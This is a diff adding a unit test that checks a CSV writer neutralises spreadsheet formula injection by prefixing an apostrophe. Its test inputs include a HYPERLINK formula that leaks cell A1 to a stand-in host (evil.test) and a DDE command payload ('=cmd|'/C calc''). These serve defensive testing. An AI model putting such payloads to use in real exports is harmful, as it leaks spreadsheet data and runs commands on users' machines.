@@ -23,6 +23,21 @@ describe('toCsv', () => {
     expect(toCsv({ header: ['a,b'], rows: [['x"y']] })).toBe('"a,b"\r\n"x""y"\r\n');
   });
 
+  it('neutralises texts a spreadsheet would run as formulas with a leading apostrophe (OWASP)', () => {
+    expect(csvField('=HYPERLINK("http://evil.test/?leak="&A1,"Click")')).toBe(
+      `"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`,
+    );
+    expect(csvField("=cmd|'/C calc'!A0")).toBe("'=cmd|'/C calc'!A0");
+    expect(csvField('+1+1')).toBe("'+1+1");
+    expect(csvField('-2+3')).toBe("'-2+3");
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('\t=1')).toBe("'\t=1");
+    expect(csvField('\r=1')).toBe(`"'\r=1"`);
+    expect(csvField('-12.5')).toBe('-12.5');
+    expect(csvField('a=1')).toBe('a=1');
+    expect(toCsv({ header: ['source'], rows: [['=1+1']] })).toBe("source\r\n'=1+1\r\n");
+  });
+
   it('writes numbers unformatted and empty fields for null', () => {
     expect(csvField(12345)).toBe('12345');
     expect(csvField(0.027)).toBe('0.027');
